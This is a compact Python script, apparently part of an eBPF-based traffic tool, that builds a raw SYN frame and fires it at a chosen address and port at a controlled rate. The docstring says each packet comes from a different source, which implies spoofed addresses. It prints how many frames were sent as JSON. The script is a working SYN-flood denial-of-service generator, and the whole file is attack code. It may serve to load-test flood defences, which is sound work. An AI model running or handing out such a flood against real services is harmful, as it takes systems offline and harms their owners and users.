#!/usr/bin/env python3
"""Sends SYNs to one service, each from another source, at a rate; prints what was sent as JSON.

    flood_sender.py PINS DEVICE DESTINATION_MAC ADDRESS PORT RATE SECONDS

PINS is where flood_syn and flood_frame (flood.bpf.c) are pinned.
"""

import json
import socket
import struct
import sys
import time

import bpf_calls

PER_CALL_S = 0.02  # of frames in one call: a call has a price of its own


def syn(mac, address, port):
    tcp = struct.pack("!HHIIBBHHH", 0, port, 0, 0, 5 << 4, 2, 65535, 0, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, 0, bytes(4),
                     socket.inet_aton(address))
    return bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\0\x01" + b"\x08\0" + ip + tcp


def main():
    pins, device, mac, address, port, rate, seconds = sys.argv[1:]
    program, ifindex = bpf_calls.open_pinned(f"{pins}/flood_syn"), socket.if_nametoindex(device)
    frame = syn(mac, address, int(port))
    bpf_calls.update(bpf_calls.open_pinned(f"{pins}/flood_frame"), bytes(4), frame)
    rate, seconds, sent, began = int(rate), float(seconds), 0, time.monotonic()
    while (elapsed := time.monotonic() - began) < seconds:
        due = int(rate * elapsed) - sent
        if due < rate * PER_CALL_S:
            time.sleep(PER_CALL_S / 4)
            continue
        due = min(due, int(4 * rate * PER_CALL_S))  # what was missed is not caught up with at once
        bpf_calls.send_frames(program, frame, ifindex, due)
        sent += due
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - began}))


main()
